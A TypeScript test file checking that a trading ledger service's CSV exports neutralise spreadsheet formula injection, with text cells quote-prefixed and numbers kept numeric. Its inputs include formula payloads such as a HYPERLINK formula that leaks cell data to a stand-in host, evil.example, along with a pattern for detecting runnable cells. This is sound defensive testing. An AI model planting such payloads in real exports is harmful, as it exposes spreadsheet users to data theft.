// Issue 24, finding 4: no CSV the service writes can carry a spreadsheet formula. The shared cell
// writer (src/performance/csv.ts) neutralises text cells as OWASP describes and leaves the numbers
// the service formats as numbers; on both stores, an agent's symbol and time_horizon written as
// formulas reach the outcomes CSV neutralised, and both CSVs keep every number numeric.
import assert from 'node:assert/strict';
import { after, before, it, test } from 'node:test';
import { SyntheticMarketData } from '../../src/market/synthetic.ts';
import { csvBoolean, csvCell, csvDocument, csvNumber, csvText, csvTextCell } from '../../src/performance/csv.ts';
import { OUTCOME_CSV_COLUMNS } from '../../src/performance/outcome-pages.ts';
import { CSV_COLUMNS } from '../../src/performance/views.ts';
import { Operators } from '../../src/ledger/operators.ts';
import type { LedgerStore } from '../../src/store/port.ts';
import { idempotencyKey, postDecision } from '../support/app.ts';
import { observeDecisions } from '../support/observe.ts';
import { forEachStore } from '../support/stores.ts';
import { DAY, performanceApp, type PerformanceApp } from './fixtures.ts';

/** RFC 4180 fields, quotes removed (what a spreadsheet receives as each cell's text). */
function csvRows(body: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const ch = body[i] as string;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false; else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(field); field = ''; } else if (ch === '\r' && body[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; } else field += ch;
  }
  return rows;
}

/** What a spreadsheet could run: a cell starting =, +, -, @ (after whitespace and quotes), or TAB or CR. */
const RUNNABLE = /^(?:[\t\r]|[\s"']*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;
const PLAIN_DECIMAL = /^-?\d+(\.\d+)?([eE][+-]?\d+)?$/;

/** Every cell is inert: behind the quote mark (text to a spreadsheet), not runnable, or a plain decimal (a number). */
function assertInert(rows: string[][]) {
  for (const row of rows) {
    for (const cell of row) assert.ok(cell.startsWith("'") || !RUNNABLE.test(cell) || PLAIN_DECIMAL.test(cell), `runnable cell ${JSON.stringify(cell)}`);
  }
}

test('a text cell that could start a formula is written as \' + the text, quoted; the text is recoverable', () => {
  const dangerous = [
    '=1+2', '=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '-1+2', '-2', '@SUM(A1:A9)', '\t=1+2', '\rx', '\tplain',
    ' =1+2', '  @x', '"=1+2', "'=1+2", ' "\'-x', '\u00a0=1', '\ufeff=1', '＝1+2', '＠x', '＋1', '－1', '\n=1',
  ];
  for (const s of dangerous) {
    const written = csvTextCell(s);
    assert.equal(written, `"'${s.replace(/"/g, '""')}"`, JSON.stringify(s));
    const [[cell]] = csvRows(`${written}\r\n`) as [[string]];
    assert.equal(cell, `'${s}`, 'the cell is the text behind one quote mark');
    assert.equal(cell.slice(1), s, 'dropping the quote mark gives the text back');
  }
  for (const s of ['AAPL', 'BTC/USD', '5 trading days', 'a=b', 'x-1', 'e@mail', '1+1', '2025-01-02', '']) assert.equal(csvTextCell(s), s, s);
  assert.equal(csvTextCell('a,b'), '"a,b"');
  assert.equal(csvTextCell('a;=1+2'), '"a;=1+2"', 'quoted: a semicolon-splitting spreadsheet keeps it one cell');
  assert.equal(csvTextCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvTextCell('two\r\nlines'), '"two\r\nlines"');
});

test('numbers the service formats stay numbers; anything else in a number cell is text', () => {
  for (const n of ['-0.05', '-1', '0', '12.5', '1e-7', '-1.5E+3', '187.42']) assert.equal(csvCell(csvNumber(n)), n);
  assert.equal(csvCell(csvNumber(-1)), '-1');
  assert.equal(csvCell(csvNumber(42)), '42');
  assert.equal(csvCell(csvNumber('=1+2')), `"'=1+2"`, 'never a formula, whatever reached a number cell');
  assert.equal(csvCell(csvNumber('-1+2')), `"'-1+2"`);
  assert.equal(csvCell(csvNumber('+5')), `"'+5"`);
  assert.equal(csvCell(csvNumber(null)), '');
  assert.equal(csvCell(csvText('-0.05')), `"'-0.05"`, 'a text cell is text even when it looks like a number');
  assert.equal(csvCell(csvText(null)), '');
  assert.deepEqual([csvCell(csvBoolean(true)), csvCell(csvBoolean(false)), csvCell(csvBoolean(null))], ['true', 'false', '']);
  assert.equal(csvDocument(['a', 'b'], [[csvText('=x'), csvNumber('-1')]]), `a,b\r\n"'=x",-1\r\n`);
});

const HOSTILE = [
  { symbol: '=1+2', time_horizon: '=HYPERLINK("http://evil.example/","click")' },
  { symbol: '@SUM(A1)', time_horizon: '+5 td' },
  { symbol: '-2+3', time_horizon: ' -1+1' },
  { symbol: '"=cmd', time_horizon: '＝1+2' },
  { symbol: 'AAPL', time_horizon: '5 td' },
];

await forEachStore('CSV answers neutralise formulas', (kind) => {
  let store: LedgerStore;
  let made: PerformanceApp;
  const handle = `csv-${kind.name}-${process.pid}`;

  before(async () => {
    store = await kind.open();
    made = await performanceApp(store, new SyntheticMarketData('csv-test'));
    const created = await new Operators(made.store, made.clock).createAgent({ handle });
    assert.ok(created.ok);
    for (let i = 0; i < 12; i++) {
      const body = { ...HOSTILE[i % HOSTILE.length]!, action: i % 3 === 2 ? 'SELL' : 'BUY', quantity: '1' };
      const res = await postDecision(made.ledger, created.value.apiKey.secret, body, idempotencyKey());
      assert.equal(res.statusCode, 201, res.body);
      made.clock.t += 2 * DAY;
    }
    await observeDecisions(made.store, made.market, made.provider, created.value.agent.id);
    made.clock.t += 40 * DAY;
    const report = await made.ledger.app.inject({ url: `/v1/agents/${handle}/performance` });
    assert.equal(report.statusCode, 200, report.body);
  });
  after(async () => {
    await made.ledger.close();
    await store.close();
    await kind.cleanup();
  });

  it('the outcomes CSV: the agent\'s symbol and time_horizon neutralised, the same text as the JSON behind one quote mark, numbers numeric', async () => {
    const json = (await made.ledger.app.inject({ url: `/v1/agents/${handle}/performance/outcomes?limit=50` })).json();
    const res = await made.ledger.app.inject({ url: `/v1/agents/${handle}/performance/outcomes?limit=50&format=csv` });
    assert.equal(res.statusCode, 200, res.body);
    assert.match(String(res.headers['content-type']), /^text\/csv/);
    const [header, ...rows] = csvRows(res.body);
    assert.deepEqual(header, [...OUTCOME_CSV_COLUMNS]);
    assert.equal(rows.length, 12);
    assertInert(rows);
    const col = (name: string) => OUTCOME_CSV_COLUMNS.indexOf(name as never);
    const shown = (s: string) => (RUNNABLE.test(s) ? `'${s}` : s);
    let negative = 0;
    for (const [i, row] of rows.entries()) {
      const r = json.data[i];
      assert.equal(row[col('symbol')], shown(r.symbol));
      assert.equal(row[col('stated_horizon')], shown(r.stated.horizon));
      assert.equal(row[col('direction')], String(r.direction), 'direction (-1 for a sell) stays a number');
      for (const h of ['1d', '5d', '21d']) {
        const ret = r.outcomes[h].return as string | null;
        assert.equal(row[col(`${h}_return`)], ret ?? '');
        if (ret?.startsWith('-')) negative++;
      }
    }
    assert.ok(negative > 0, 'negative returns were written, as numbers');
    assert.deepEqual(rows.map((r) => r[col('symbol')]).slice(0, 5), [`'=1+2`, `'@SUM(A1)`, `'-2+3`, `'"=cmd`, 'AAPL']);
    assert.equal(rows[0]![col('stated_horizon')], `'=HYPERLINK("http://evil.example/","click")`);
  });

  it('the performance CSV: every number numeric, nothing runnable', async () => {
    const json = (await made.ledger.app.inject({ url: `/v1/agents/${handle}/performance` })).json();
    const res = await made.ledger.app.inject({ url: `/v1/agents/${handle}/performance?format=csv` });
    assert.equal(res.statusCode, 200, res.body);
    const [header, ...rows] = csvRows(res.body);
    assert.deepEqual(header, [...CSV_COLUMNS]);
    assert.equal(rows.length, json.series.length);
    assert.ok(rows.length > 10);
    assertInert(rows);
    rows.forEach((row, i) => assert.deepEqual(row, [json.series[i].date, json.series[i].value, json.series[i].daily_return, json.series[i].benchmark_value ?? '']));
  });
});
